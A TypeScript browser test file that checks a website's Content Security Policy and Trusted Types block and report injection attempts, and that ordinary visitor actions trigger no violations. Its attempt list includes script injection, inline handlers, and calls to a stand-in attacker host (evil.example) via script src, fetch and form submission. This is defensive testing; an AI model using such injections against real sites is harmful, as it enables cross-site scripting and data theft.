import { expect, test } from 'vitest';
import { hydrated, printable, visit, visitHydrated } from '../support/browser/page.ts';

/* What an attacker might add to a page, and the directive of the policy that stops it. */
const attempts: [what: string, by: string, attempt: () => unknown][] = [
  [
    'a script written into the page',
    'require-trusted-types-for',
    () => {
      const script = document.createElement('script');
      script.append('window.broken = true');
      document.body.append(script);
    },
  ],
  [
    'a handler in an attribute',
    'require-trusted-types-for',
    () => document.body.setAttribute('onclick', 'window.broken = true'),
  ],
  [
    'a text that becomes elements',
    'require-trusted-types-for',
    () => {
      document.body.innerHTML += '<b id="broken"></b>';
    },
  ],
  [
    'a third-party script',
    'require-trusted-types-for',
    () => {
      const script = document.createElement('script');
      script.setAttribute('src', 'https://evil.example/x.js');
      document.body.append(script);
    },
  ],
  ['a style in an attribute', 'style-src-attr', () => document.body.setAttribute('style', 'display: none')],
  [
    'a style sheet written into the page',
    'style-src-elem',
    () => {
      const style = document.createElement('style');
      style.append('body { display: none }');
      document.head.append(style);
    },
  ],
  [
    'a third-party picture',
    'img-src',
    () => {
      document.body.append(Object.assign(new Image(), { src: 'https://evil.example/x.png' }));
    },
  ],
  [
    'a frame',
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
  ],
  ['data sent to another site', 'connect-src', () => fetch('https://evil.example/').catch(() => {})],
  [
    'a form sent to another site',
    'form-action',
    () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      document.body.append(form);
      form.submit();
    },
  ],
  [
    'another base for every link',
    'base-uri',
    () => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
    },
  ],
];

test('blocks and reports everything that an attacker may inject', async () => {
  const lines: string[] = [];
  const page = await visit('/privacy-policy', {
    expected: /./,
    before: async (page) => page.on('console', (line) => lines.push(line.text())),
  });
  for (const [what, by, attempt] of attempts) {
    lines.length = 0;
    await page.evaluate(attempt).catch(() => {});
    const stopped = () => lines.flatMap((line) => /^the policy stopped .* by (.*)$/.exec(line)?.[1] ?? []);
    // Twice, because the policy is in the document and in its headers.
    await expect.poll(() => [what, ...stopped()]).toEqual([what, by, by]);
  }
  expect(page.url()).toMatch(/privacy-policy$/);
  expect(await page.evaluate(() => 'broken' in window || document.getElementById('broken') !== null)).toBe(false);
});

/* Every test fails on a violation: see tests/support/browser/page.ts. This one does everything that a visitor can do. */
test('blocks nothing that a visitor does', async () => {
  const page = await visitHydrated('/');
  const button = (name: string | RegExp) => page.getByRole('button', { name }).first();
  for (const _ of ['light', 'dark', 'system']) await page.locator('.theme-button').first().click();
  await button('Freelancer').click();
  await page.locator('.icon-link').first().hover();
  await page.getByRole('tooltip').waitFor();
  await page.locator('.copy-button').first().click();
  await page.locator('[data-sonner-toast]').first().waitFor();
  await button('Send Message').click();
  await page.locator('.form-errors').waitFor();
  await (await printable(page)).emulateMedia({ media: 'print' });
  await page.emulateMedia({ media: 'screen' });
  await page.getByRole('link', { name: 'Privacy Policy' }).click();
  await page.getByRole('heading', { level: 1, name: 'Privacy Policy' }).waitFor();
  await page.goBack();
  await page.setViewportSize({ width: 390, height: 844 });
  await button('Menu').click();
  await page.getByRole('navigation', { name: 'Menu' }).getByRole('link', { name: 'Skills' }).click();
  await button(/^Show \d+ more/).click();
  for (const path of ['/terms-of-service', '/no-such-page']) await hydrated(await visit(path));
});
